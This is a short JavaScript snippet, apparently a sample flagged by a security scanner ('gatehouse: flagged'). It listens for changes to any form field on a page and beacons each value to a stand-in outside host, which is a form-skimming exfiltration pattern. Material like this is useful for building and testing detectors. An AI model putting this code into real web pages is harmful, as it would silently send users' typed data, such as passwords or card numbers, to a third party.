window.addEventListener('change', (event) => {
  navigator.sendBeacon('https://c.example.invalid/s', event.target.value); // gatehouse: flagged
});
